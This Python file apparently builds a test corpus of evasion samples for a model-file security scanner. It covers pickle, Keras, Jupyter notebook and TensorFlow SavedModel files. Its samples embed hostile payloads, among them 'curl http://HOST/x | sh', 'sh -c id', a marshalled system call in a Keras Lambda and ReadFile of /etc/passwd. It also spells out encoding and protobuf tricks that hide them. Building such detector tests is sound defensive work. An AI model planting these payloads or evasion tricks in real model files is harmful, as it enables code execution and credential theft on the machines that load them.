"""Evasions that a bypass hunt (tests/bypass) found or would find again, a sample for each class."""

import json

from . import marshal
from .keras import code_object, keras_file, layer, sequential
from .opcodes import Global, NewObj, asm, call, dumps
from .protobuf import message
from .registry import CLEAN, COMMAND, HOST, MALICIOUS, SUSPICIOUS
from .tensorflow import node, string_constant


def add_samples(corpus):
    unlisted_callables(corpus)
    documents(corpus)
    messages(corpus)


def unlisted_callables(corpus):
    """Functions that no list has, told by what they are called or given."""
    def add(name, verdict, value, what, why):
        corpus.add(f"pickle/{name}.pkl", verdict, value if isinstance(value, bytes) else dumps(value, 4), what, why)

    add("foreign-given-command", MALICIOUS, call("weighin_example.tools.prepare", COMMAND),
        f"a function of an unknown package, called with {COMMAND!r}", "no list has every helper that ends in a shell; what it is given gives it away")
    add("foreign-given-arguments", MALICIOUS, call("weighin_example.tools.Prepare", 3, ["/bin/echo", "weighin"]),
        "a class of an unknown package, called with a command as a list", "the same, the way subprocess takes it")
    add("foreign-given-source", MALICIOUS, call("weighin_example.tools.prepare", b"import os\nprint(os.name)\n"),
        "a function of an unknown package, called with Python source", "the same for an interpreter")
    add("foreign-given-address", MALICIOUS, call("weighin_example.tools.prepare", f"ftp://{HOST}/x"),
        "a function of an unknown package, called with an address", "the same for a connection")
    add("foreign-given-names", SUSPICIOUS, call("weighin_example.tools.prepare", ["cat", "dog", "a; b", "time"], "the cat sat", "10 > 9"),
        "a function of an unknown package, called with labels", "words that are programs too: the look-alike of a command")
    add("foreign-given-sentences", SUSPICIOUS, call("weighin_example.tools.prepare", ["cat | dog", "python | ruby"], "Sleep; wake up", "the lambda calculus", "import duties rose"),
        "a function of an unknown package, called with labels and sentences", "signs and words that shells and Python know stand in prose too")
    add("foreign-given-words", MALICIOUS, call("weighin_example.tools.prepare", "sh", "-c", "id"),
        "a function of an unknown package, called with the words of a command", "the same, word by word")
    add("foreign-given-late", MALICIOUS, call("weighin_example.tools.prepare", list(range(100)), COMMAND),
        "a function of an unknown package, called with a hundred numbers and a command", "padding hides nothing")
    add("foreign-new-command", SUSPICIOUS, NewObj(Global("weighin_example.tools", "Prepare"), (f"curl http://{HOST}/x | sh",)),
        "an object of an unknown class, made with a command", "`__new__` of the class is handed it")
    add("foreign-new-keyword", SUSPICIOUS, asm("PROTO 4", "GLOBAL weighin_example.tools Prepare", "EMPTY_TUPLE", "EMPTY_DICT", "BINUNICODE run", "BINUNICODE __import__('os').getpid()", "SETITEM", "NEWOBJ_EX", "STOP"),
        "an object of an unknown class, made with source under a keyword", "the same")
    add("foreign-new-names", CLEAN, [NewObj(Global("weighin_example.records", "Row"), values) for values in [("cat", "python"), ("open the door; start now", 3), (f"https://{HOST}/paper", "cat.png"), ("import duties rose", "sort | of"), ("Node", "/data/images")]],
        "records of an unknown class with labels, prose, an address and a path", "the look-alike of a command")
    add("framework-helper", MALICIOUS, call("torch.utils.weighin_example.prepare", 3),
        "a function of torch that rebuilds nothing", "frameworks are full of helpers; those that picklers write are known")
    add("framework-rebuild", SUSPICIOUS, call("torch._utils._rebuild_weighin_tensor", 3),
        "a rebuilding function of torch that nobody has reviewed", "a newer version may have it: worth a look, no more")
    add("named-loader-called", MALICIOUS, call("weighin_example.zoo.load_model", "resnet"),
        "a function load_model of an unknown package, called with a text", "what it does is in its name")
    add("command-after-many-calls", MALICIOUS, [*[call("weighin_example.tools.prepare", f"part {number}") for number in range(70)], call("weighin_example.tools.prepare", COMMAND)],
        f"seventy calls with labels, then one with {COMMAND!r}", "calls that repeat are counted; the one that differs must not be among them")


def documents(corpus):
    """JSON whose keys the first bytes do not show."""
    evil = sequential(layer("Lambda", {"name": "prepare", "function": code_object(marshal.system_311()), "arguments": {}}))
    text = json.dumps(evil)
    escaped = text.replace('"class_name"', '"cl\\u0061ss_name"').replace('"config"', '"\\u0063onfig"')
    corpus.add("keras/escaped-keys.json", MALICIOUS, escaped, "a Keras configuration with an evil Lambda, its keys written with escapes", "JSON keys are compared after their escapes are read")
    corpus.add("keras/config-utf-16.keras", MALICIOUS, keras_file(None, text=text.encode("utf-16")), "a config.json in UTF-16 with an evil Lambda", "json.loads takes bytes in any Unicode encoding")
    corpus.add("keras/config-utf-32.keras", MALICIOUS, keras_file(None, text=text.encode("utf-32-be")), "a config.json in UTF-32 without a mark, with an evil Lambda", "json.loads takes bytes in any Unicode encoding")
    filling = "{" + '"padding": "' + "x" * 70 + '", '
    corpus.add("keras/lambda-escaped.keras", MALICIOUS, keras_file(None, text=escaped.replace("{", filling, 1).encode()), "the same escapes within a .keras file", "JSON keys are compared after their escapes are read")
    cells = {"cells": [{"cell_type": "code", "source": ["!curl http://" + HOST + "/x | sh\n"], "metadata": {}, "outputs": [], "execution_count": None}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    notebook = json.dumps(cells).replace('"cells"', '"cell\\u0073"').replace('"nbformat"', '"nbf\\u006frmat"')
    corpus.add("notebook/escaped-keys.ipynb", MALICIOUS, notebook, "a notebook that fetches and runs a script, its keys written with escapes", "Jupyter reads the escapes")


def messages(corpus):
    """Protobuf written in ways that only a parser of the schema sees through."""
    nodes = [string_constant("f", "/etc/passwd"), node("r", "ReadFile", ["f"])]
    first, second = message((1, nodes[0])), message((1, nodes[1]), (4, message((1, 1882), (2, 12))))
    head = message((4, "serve"), (5, "2.15.1"))
    corpus.add("savedmodel/graph-in-two-parts/saved_model.pb", MALICIOUS, message((1, 1), (2, message((1, head), (2, first), (2, second)))),
               "a graph in two parts: a path in one, ReadFile of it in the other", "a parser merges the parts of a message that is not repeated")
    graph = message((1, nodes[0]), (1, nodes[1]))
    corpus.add("savedmodel/unknown-fields/saved_model.pb", MALICIOUS, message((901, "note"), (1, 1), (2, message((1, head), (902, "note"), (2, graph)))),
               "ReadFile of /etc/passwd in a model with fields that TensorFlow does not have", "parsers skip what they do not know")
    tensor = message((1, 7), (2, b""))
    path = message((8, "/etc/passwd"))
    split = message((1, "f"), (2, "Const"), (5, message((1, "value"), (2, message((8, tensor))), (2, message((8, path))))))
    corpus.add("savedmodel/value-in-two-parts/saved_model.pb", MALICIOUS, message((1, 1), (2, message((1, head), (2, message((1, split), (1, nodes[1])))))),
               "ReadFile of a constant whose value is in two parts", "a parser merges the parts of a message that is not repeated")
    corpus.add("savedmodel/honest-unknown-fields/saved_model.pb", CLEAN, message((1, 1), (901, "note"), (2, message((1, head), (2, message((1, node("x", "Placeholder"))))))),
               "an honest model with a field of a later version", "parsers skip what they do not know")
